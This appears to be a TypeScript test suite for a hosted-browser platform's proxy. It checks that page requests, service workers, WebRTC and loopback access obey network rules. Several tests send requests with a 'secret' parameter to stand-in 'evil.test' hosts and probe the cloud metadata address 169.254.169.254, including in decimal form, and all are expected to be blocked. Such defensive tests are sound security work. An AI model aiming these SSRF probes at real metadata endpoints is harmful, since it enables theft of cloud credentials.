/** A real browser behind its proxy: every connection of a page passes the rules or fails. */

import { afterAll, beforeAll, expect, test } from "bun:test";
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { connect, createServer, type Server } from "node:net";
import { dirname, join } from "node:path";
import { attachTo } from "../../../src/browser/launch/attach.ts";
import { launch } from "../../../src/browser/launch/launch.ts";
import { Connection, type Session } from "../../../src/cdp/connection.ts";
import { offerOf } from "../../../src/platform/egress/upstream.ts";
import { type NetworkSetup, network } from "../../../src/platform/engine/lifecycle/network.ts";
import type {
  BrowserRequest,
  BrowserWorkspace,
  RunningBrowser,
} from "../../../src/platform/engine/lifecycle/running.ts";
import type { BrowserSettings } from "../../../src/platform/store/records/browser-rows.ts";
import { temporaryFolder } from "../../support/folder.ts";
import { htmlResponse, localServer } from "../../support/server.ts";
import { until } from "../../support/until.ts";
import { served, type TestPlatform } from "../served.ts";
import { SELF_SIGNED } from "./self-signed.ts";

/** The test site: pages, a redirect to any URL, a service worker that fetches. */
let site: Bun.Server<undefined>;

beforeAll(() => {
  const html = (body: string) => htmlResponse(`<!doctype html><body>${body}`);
  site = localServer({
    fetch(request, server) {
      const url = new URL(request.url);
      if (server.upgrade(request)) return undefined;
      if (url.pathname === "/go") return Response.redirect(url.searchParams.get("to") ?? "", 302);
      if (url.pathname === "/worker.js")
        return new Response(
          "self.onmessage = ({ data, source }) => fetch(data, { mode: 'no-cors' }).then(() => source.postMessage('open'), () => source.postMessage('done'))",
          { headers: { "content-type": "text/javascript" } },
        );
      return html("hello");
    },
    websocket: { message: (ws, text) => void ws.send(text) },
  });
});

afterAll(() => site.stop(true));

const SETTINGS: BrowserSettings = {
  profileId: null,
  customProxy: null,
  timeoutMinutes: 1,
  idleTimeoutMs: 0,
  width: 800,
  height: 600,
  allowResizing: false,
  enableRecording: false,
};

const ASKED: BrowserRequest = {
  id: crypto.randomUUID(),
  projectId: "p",
  settings: SETTINGS,
};

/** A page of a browser started as the platform does; `isWarm` means without an owner. */
async function page({ isWarm = false, ...setup }: Partial<NetworkSetup> & { isWarm?: boolean } = {}) {
  const { path: home, [Symbol.dispose]: remove } = temporaryFolder();
  const net = network({
    isPrivateOpen: true,
    ownPorts: () => [],
    records: { addTraffic: async () => {} },
    offer: offerOf(undefined),
    ...setup,
  });
  let workspace: BrowserWorkspace | undefined;
  const launched = await launch({
    home,
    headed: false,
    runFolder: join(home, "run"),
    async prepare(userDataDir) {
      workspace = { folder: dirname(userDataDir), userDataDir, args: [] };
      await net.prepare?.(workspace, isWarm ? undefined : ASKED);
      return { args: workspace.args };
    },
  });
  const connection = new Connection(launched.transport);
  const { targetId } = await connection.root.send("Target.createTarget", { url: "about:blank" });
  const { sessionId } = await connection.root.send("Target.attachToTarget", { targetId, flatten: true });
  const session: Session = connection.session(sessionId);
  await session.send("Page.enable");
  await session.send("Page.setLifecycleEventsEnabled", { enabled: true });
  return {
    net,
    /** Assigns the browser with these settings. */
    give: async (settings: Partial<BrowserSettings>) =>
      await net.assigned?.({
        ...ASKED,
        settings: { ...SETTINGS, ...settings },
        workspace,
        connection,
      } as RunningBrowser),
    async run<T>(expression: string): Promise<T> {
      const { result, exceptionDetails } = await session.send("Runtime.evaluate", {
        expression: `(async () => { ${expression} })()`,
        awaitPromise: true,
        returnByValue: true,
        userGesture: true,
      });
      if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
      return result.value as T;
    },
    /** The error of the navigation, or the text of the page. */
    async open(url: string): Promise<string> {
      // An earlier error page may still load: only the document of this navigation counts.
      const loaded: string[] = [];
      const { promise, resolve } = Promise.withResolvers<void>();
      let document: string | undefined;
      const off = session.on("Page.lifecycleEvent", ({ name, loaderId }) => {
        if (name === "load") loaded.push(loaderId);
        if (document !== undefined && loaded.includes(document)) resolve();
      });
      const { errorText, loaderId } = await session.send("Page.navigate", { url });
      document = loaderId;
      if (!errorText && !loaded.includes(loaderId ?? "")) await promise;
      off();
      if (errorText) return errorText;
      return await this.run<string>("return document.body.innerText");
    },
    async [Symbol.asyncDispose]() {
      await launched.kill();
      if (workspace) net.released?.(workspace);
      expect(net.size).toBe(0);
      remove();
    },
  };
}

/** Tries each kind of connection to `address(way)`; resolves when all have finished. */
const WAYS = `
  const settled = (make) => new Promise((resolve) => make(() => resolve("done"), () => resolve("open")));
  const element = (tag, set) => settled((failed, done) => {
    const made = document.createElement(tag);
    made.onerror = failed;
    made.onload = done;
    set(made);
    document.body.append(made);
  });
  const ways = {
    fetch: (to) => fetch(to, { mode: "no-cors" }).then(() => "open", () => "done"),
    image: (to) => element("img", (made) => { made.src = to; }),
    script: (to) => element("script", (made) => { made.src = to; }),
    style: (to) => element("link", (made) => { made.rel = "stylesheet"; made.href = to; }),
    frame: (to) => element("iframe", (made) => { made.src = to; }),
    events: (to) => settled((failed, done) => { const made = new EventSource(to); made.onerror = () => { made.close(); failed(); }; made.onopen = done; }),
    socket: (to) => settled((failed, done) => { const made = new WebSocket(to.replace("http", "ws")); made.onerror = failed; made.onopen = done; }),
    secure: (to) => fetch(to.replace("http", "https"), { mode: "no-cors" }).then(() => "open", () => "done"),
    beacon: async (to) => { navigator.sendBeacon(to, "x"); },
    ping: async (to) => { const made = document.createElement("a"); made.href = "#x"; made.ping = to; document.body.append(made); made.click(); },
    popup: async (to) => { window.open(to); },
  };`;

test("every connection of a page passes the rules, with names resolved by the proxy only", async () => {
  const asked = new Set<string>();
  await using p = await page({
    lookup: async (name) => {
      asked.add(name.split(".")[0] ?? "");
      return name.endsWith("evil.test") ? ["169.254.169.254"] : ["127.0.0.1"];
    },
  });
  const { port } = site;
  expect(await p.open(`http://site.test:${port}/`)).toBe("hello");
  const tried = await p.run<Record<string, string>>(`${WAYS}
    // Chrome may skip these.
    for (const rel of ["dns-prefetch", "preconnect", "prefetch"])
      Object.assign(document.head.appendChild(document.createElement("link")), { rel, href: "http://" + rel + ".evil.test/" });
    const found = {};
    for (const [name, way] of Object.entries(ways)) found[name] = await way("http://" + name + ".evil.test/x?secret=1");
    return found;`);
  const quiet = ["beacon", "ping", "popup"];
  // Requests without a result in the page may still be running.
  await until(() => quiet.every((name) => asked.has(name)));
  // A frame shows the message of the refusal, which the page cannot read.
  const { frame, ...others } = tried;
  expect(frame).toBe("open");
  for (const [name, how] of Object.entries(others))
    expect([name, how === "open" && name !== "fetch"]).toEqual([name, false]);
  for (const name of Object.keys(tried)) expect(asked).toContain(name);
  expect(await p.open(`http://site.test:${port}/go?to=http://redirect.evil.test/`)).toContain("link-local");
  expect(await p.open("http://2852039166/latest/meta-data/")).toContain("169.254.169.254:80 is not allowed");
  expect(await p.open("https://secure.evil.test/")).toContain("ERR_TUNNEL_CONNECTION_FAILED");
  expect(asked).toContain("redirect");
  expect(p.net.denials.get("link-local")).toBeGreaterThan(Object.keys(tried).length);
});

test("rules apply to service workers, and no UDP leaves the browser", async () => {
  let datagrams = 0;
  const udp: UdpSocket = createSocket("udp4", () => datagrams++);
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  const asked: string[] = [];
  await using p = await page({
    lookup: async (name) => {
      asked.push(name);
      return name.endsWith("evil.test") ? ["169.254.169.254"] : ["127.0.0.1"];
    },
  });
  await p.open(`http://localhost:${site.port}/`);
  await p.run(`
    const heard = new Promise((resolve) => navigator.serviceWorker.addEventListener("message", resolve, { once: true }));
    const { active, installing, waiting } = await navigator.serviceWorker.register("/worker.js");
    (active ?? installing ?? waiting).postMessage("http://worker.evil.test/");
    await heard;`);
  // A full Chrome contacts some hosts of its own.
  expect(asked.filter((name) => name.endsWith(".test"))).toEqual(["worker.evil.test"]);
  const transport = await p.run<string>(
    `return await new WebTransport("https://127.0.0.1:${udp.address().port}/").ready.then(() => "open", (error) => error.name);`,
  );
  expect([transport, datagrams]).toEqual(["WebTransportError", 0]);
  udp.close();
});

test("loopback is reached through the proxy only, and is closed if private addresses are", async () => {
  let visits = 0;
  const canary: Server = createServer((socket) => {
    visits++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const { port } = canary.address() as { port: number };
  const udp: UdpSocket = createSocket("udp4", () => visits++);
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  {
    await using p = await page({ isPrivateOpen: false });
    await p.run(`${WAYS}
      const places = ["http://127.0.0.1:${port}/", "http://localhost:${port}/", "http://127.1:${port}/"];
      await Promise.all(places.flatMap((to) => Object.values(ways).map((way) => way(to))));`);
    const candidates = await p.run<string[]>(`
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: "stun:127.0.0.1:${udp.address().port}" },
        { urls: "turn:127.0.0.1:${udp.address().port}", username: "u", credential: "c" },
        { urls: "turn:127.0.0.1:${port}?transport=tcp", username: "u", credential: "c" },
      ] });
      peer.createDataChannel("x");
      const found = [];
      const gathered = new Promise((resolve) => {
        peer.onicecandidate = ({ candidate }) => candidate ? found.push(candidate.candidate) : resolve();
      });
      await peer.setLocalDescription(await peer.createOffer());
      await gathered;
      return found.filter(Boolean);`);
    expect(candidates).toEqual([]);
    expect(await p.open("ftp://127.0.0.1/")).toContain("ERR_");
    expect(visits).toBe(0);
    expect(p.net.denials.get("private")).toBeGreaterThan(10);
  }
  await using p = await page();
  await p.run(`await fetch("http://127.0.0.1:${port}/").catch(() => {});`);
  expect(visits).toBeGreaterThan(0);
  canary.close();
  udp.close();
});

/** The text that a browser of the platform shows at that URL. */
async function read(p: TestPlatform, body: object, url: string): Promise<{ id: string; text: string }> {
  const { id, cdpUrl } = await p.browser(body);
  // Connects directly, not through the public URL.
  const address = cdpUrl.replace(/^wss?:\/\/[^/]+/, p.url.replace(/^http/, "ws"));
  const connection = new Connection(await attachTo(address, AbortSignal.timeout(10_000)));
  const { targetId } = await connection.root.send("Target.createTarget", { url: "about:blank" });
  const { sessionId } = await connection.root.send("Target.attachToTarget", { targetId, flatten: true });
  const session = connection.session(sessionId);
  await session.send("Page.enable");
  const loaded = new Promise<void>((resolve) => session.on("Page.loadEventFired", () => resolve()));
  await session.send("Page.navigate", { url });
  await loaded;
  const { result } = await session.send("Runtime.evaluate", { expression: "document.body.innerText" });
  connection.close();
  return { id, text: String(result.value).trim() };
}

test("a loopback server opens loopback to browsers except its own port; a public one does not", async () => {
  const here = `http://127.0.0.1:${site.port}/`;
  {
    await using p = await served();
    expect((await read(p, {}, here)).text).toBe("hello");
    expect((await read(p, {}, p.url)).text).toContain("it is a port of this server");
  }
  await using p = await served({ publicUrl: "https://svc.example.com" });
  expect((await read(p, {}, here)).text).toContain("allow_private_network is off");
});

test("a browser uses its proxy, shows its errors, and is charged for its traffic", async () => {
  const asked: string[] = [];
  const world = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", (chunk) => {
      const [line = "", ...headers] = chunk.toString("latin1").split("\r\n");
      const isKnown = headers.includes(`Proxy-Authorization: Basic ${btoa("u:geheim")}`);
      if (line.startsWith("GET http://far.example/ ")) asked.push(line);
      if (!isKnown) return void socket.end("HTTP/1.1 407 Who\r\nContent-Length: 0\r\n\r\n");
      const body = `<body>${"far away ".repeat(20_000)}`;
      socket.end(`HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n${body}`);
    });
  });
  await new Promise<void>((resolve) => world.listen(0, "127.0.0.1", resolve));
  const { port } = world.address() as { port: number };
  const at = { host: "127.0.0.1", port, username: "u" };
  await using p = await served({ proxies: offerOf(undefined, { de: `http://u:wrong@127.0.0.1:${port}` }) });
  const visit = async (body: object) => {
    const { id, text } = await read(p, body, "http://far.example/");
    return { text, ...(await p.call("PATCH", `/v3/browsers/${id}`, { action: "stop" })).body };
  };
  const own = await visit({ customProxy: { ...at, password: "geheim" } });
  expect(own.text).toStartWith("far away");
  expect(Number(own.proxyUsedMb)).toBeGreaterThan(0.18);
  expect((await visit({ proxyCountryCode: "de" })).text).toBe(
    "connecting through the proxy of this browser failed: it rejects the user name and password",
  );
  expect(asked).toEqual(["GET http://far.example/ HTTP/1.1", "GET http://far.example/ HTTP/1.1"]);
  expect(await p.call("POST", "/v3/browsers", { proxyCountryCode: "fr" })).toMatchObject({
    status: 422,
    body: {
      // A list, like every 422.
      detail: [{ loc: ["body", "proxyCountryCode"], msg: "This server has no proxy in the country 'fr'" }],
      hint: "Use one of de.",
    },
  });
  const metadata = { customProxy: { host: "socks5://2852039166", port: 80 } };
  expect(await p.call("POST", "/v3/browsers", metadata)).toMatchObject({
    status: 422,
    body: {
      detail: [
        {
          loc: ["body", "customProxy", "host"],
          msg: expect.stringContaining("169.254.169.254:80 is not allowed"),
          type: "value_error",
        },
      ],
    },
  });
  for await (const path of new Bun.Glob("**/*").scan({ cwd: p.home, dot: true }))
    expect(Buffer.from(await Bun.file(join(p.home, path)).bytes()).includes("geheim")).toBe(false);
  world.close();
});

test("a pool browser has no network until it is assigned, then the requested one", async () => {
  using secure = localServer({ tls: SELF_SIGNED, fetch: () => new Response("sealed") });
  const tunnels = createServer((socket) => {
    socket.on("error", () => {});
    socket.once("data", () => {
      const through = connect({ port: secure.port ?? 0, host: "127.0.0.1" }, () => {
        socket.write("HTTP/1.1 200 OK\r\n\r\n");
        socket.pipe(through).pipe(socket);
      });
      through.on("error", () => socket.destroy());
    });
  });
  await new Promise<void>((resolve) => tunnels.listen(0, "127.0.0.1", resolve));
  const { port } = tunnels.address() as { port: number };
  await using p = await page({ isWarm: true });
  expect(await p.open(`http://127.0.0.1:${site.port}/`)).toContain("has no network before it is assigned");
  await p.give({ customProxy: { host: "127.0.0.1", port } });
  expect(await p.open("https://self-signed.test/")).toContain("ERR_CERT_AUTHORITY_INVALID");
  await p.give({ customProxy: { host: "127.0.0.1", port, ignoreCertErrors: true } });
  expect(await p.open("https://self-signed.test/")).toBe("sealed");
  tunnels.close();
});

test("a hundred workspaces leave nothing open, and traffic is recorded exactly once", async () => {
  const written: number[] = [];
  let isFull = true;
  const net = network({
    isPrivateOpen: true,
    ownPorts: () => [],
    offer: offerOf(undefined),
    records: {
      async addTraffic(_, bytes) {
        if (isFull) throw new Error("the disk is full");
        written.push(bytes);
      },
    },
  });
  const ports = new Set<number>();
  for (let n = 0; n < 100; n++) {
    const workspace: BrowserWorkspace = { folder: `/workspace/${n}`, userDataDir: `/workspace/${n}/profile`, args: [] };
    await net.prepare?.(workspace, n % 2 === 0 ? ASKED : undefined);
    ports.add(Number(/:(\d+)$/.exec(workspace.args[0] ?? "")?.[1]));
    net.released?.(workspace);
  }
  const hasty: BrowserWorkspace = { folder: "/workspace/hasty", userDataDir: "/workspace/hasty/profile", args: [] };
  const preparing = net.prepare?.(hasty, ASKED);
  net.released?.(hasty);
  await preparing;
  expect(net.size).toBe(0);
  expect(ports.has(Number.NaN)).toBe(false);
  for (const port of ports) {
    // The port is free after the next turn of the event loop.
    await until(async () => !(await isTaken(port)));
  }
  const workspace: BrowserWorkspace = { folder: "/workspace", userDataDir: "/workspace/profile", args: [] };
  const custom = { ...ASKED, settings: { ...SETTINGS, customProxy: { host: "127.0.0.1", port: site.port ?? 0 } } };
  await net.prepare?.(workspace, custom);
  const proxy = (workspace.args[0] ?? "").replace("--proxy-server=", "");
  await (await fetch("http://far.example/", { proxy })).text();
  const browser = { ...custom, workspace } as RunningBrowser;
  await net.closed?.(browser, true);
  isFull = false;
  await net.closed?.(browser, true);
  await net.closed?.(browser, true);
  net.released?.(workspace);
  expect(written).toEqual([expect.any(Number)]);
  expect(written[0]).toBeGreaterThan(100);
});

function isTaken(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: "127.0.0.1" });
    socket.on("connect", () => {
      socket.destroy();
      resolve(true);
    });
    socket.on("error", () => resolve(false));
  });
}
